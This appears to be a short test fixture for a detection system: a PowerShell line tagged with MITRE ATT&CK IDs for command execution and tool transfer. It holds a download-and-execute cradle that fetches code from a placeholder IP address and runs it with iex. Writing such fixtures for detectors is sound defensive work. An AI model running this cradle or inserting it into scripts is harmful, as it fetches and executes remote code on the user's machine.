# expect: T1059.001 T1105
$code = "`$d = (New-Object Net.WebClient).DownloadString(http://198.51.100.1/x); iex `$d"
iex $code
